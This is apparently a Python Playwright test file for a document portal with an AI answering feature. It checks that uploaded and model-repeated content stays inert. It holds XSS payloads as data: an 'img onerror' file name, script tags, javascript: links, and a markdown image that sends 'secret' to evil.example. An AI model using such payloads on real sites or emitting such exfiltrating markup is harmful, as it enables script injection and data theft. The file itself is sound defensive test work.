"""Hostile names and words are shown as text: nothing runs, nothing leaves the origin.

That nothing else is asked, and that no policy is violated, the fixture `open_portal` checks for every test.
"""

from __future__ import annotations

from typing import Any

from playwright.async_api import Dialog, Page, expect

from tests.browser.conftest import OpenPortal
from tests.browser.portal import Portal
from tests.people import Person
from tests.standins.ollama import OllamaStandIn, Reply

NAME = "<img src=x onerror=alert(1)>.txt"
ATTACK = (
    "The harbour master keeps the key of the crane. <script>alert(2)</script> <img src=x onerror=alert(3)> "
    "![stolen](https://evil.example/p.png?q=secret) [press here](javascript:alert(4)) "
    "[and here](https://evil.example/) <a href='https://evil.example/'>link</a>"
)
QUESTION = "Who keeps the key of the crane?"
_ATTRIBUTES = "(body) => [...body.querySelectorAll('*')].flatMap((one) => one.getAttributeNames())"


def dialogs_of(page: Page) -> list[str]:
    """Fills with what scripts of the page say by `alert`."""
    heard: list[str] = []

    async def dismiss(dialog: Dialog) -> None:
        heard.append(dialog.message)
        await dialog.dismiss()

    page.on("dialog", dismiss)
    return heard


async def hostile_document(open_portal: OpenPortal, founder: Person) -> tuple[Portal, list[str]]:
    """A portal whose organisation has one document, ready, with `NAME` and `ATTACK` in it."""
    portal = await open_portal(founder)
    heard = dialogs_of(portal.page)
    await portal.open("documents/")
    file: Any = {"name": NAME, "mimeType": "text/plain", "buffer": ATTACK.encode()}
    await portal.page.get_by_label("choose files").set_input_files(file)
    await expect(portal.document(NAME).locator(".state")).to_have_text("Ready")
    return portal, heard


async def is_inert(portal: Portal) -> None:
    """In the last answer stand no elements that load, run or lead away."""
    await expect(portal.answer_text.locator("img, script, iframe, a:not(.chip)")).to_have_count(0)
    attributes = await portal.answer_text.evaluate(_ATTRIBUTES)
    assert [name for name in attributes if name.startswith("on")] == []


async def test_a_hostile_document_is_only_words(open_portal: OpenPortal, founder: Person) -> None:
    portal, heard = await hostile_document(open_portal, founder)
    await portal.page.reload()
    await portal.document(NAME).get_by_role("button", name="Delete").click()
    await expect(portal.page.get_by_role("dialog")).to_contain_text(f"Delete “{NAME}”?")
    await portal.page.keyboard.press("Escape")
    await portal.open()
    await portal.ask(f"{QUESTION} <img src=x onerror=alert(5)>")
    await portal.answered()
    await expect(portal.answer_text).to_contain_text("The harbour master keeps the key of the crane.")
    await is_inert(portal)
    chip = portal.chips.first
    await chip.hover()
    await expect(portal.preview).to_contain_text(NAME)
    await chip.click()
    await expect(portal.panel.get_by_role("heading")).to_have_text(NAME)
    await expect(portal.panel.locator(".page-text")).to_contain_text("<script>alert(2)</script>")
    await portal.page.goto(str(await chip.evaluate("(link) => link.href")))
    await expect(portal.page.get_by_role("heading", level=1)).to_have_text(NAME)
    assert heard == []


async def test_a_model_that_repeats_an_attack_shows_words(
    open_portal: OpenPortal, founder: Person, ollama: OllamaStandIn
) -> None:
    portal, heard = await hostile_document(open_portal, founder)
    ollama.script(Reply(text=f"{ATTACK} [1]\n\n- {ATTACK}\n\n    {ATTACK}\n\n> {ATTACK}", tokens_per_second=200))
    await portal.open()
    await portal.ask(QUESTION)
    await portal.answered()
    await expect(portal.answer_text).to_contain_text("<script>alert(2)</script>")
    await is_inert(portal)
    await portal.page.reload()
    await expect(portal.answer_text).to_contain_text("<script>alert(2)</script>")
    await is_inert(portal)
    assert heard == []
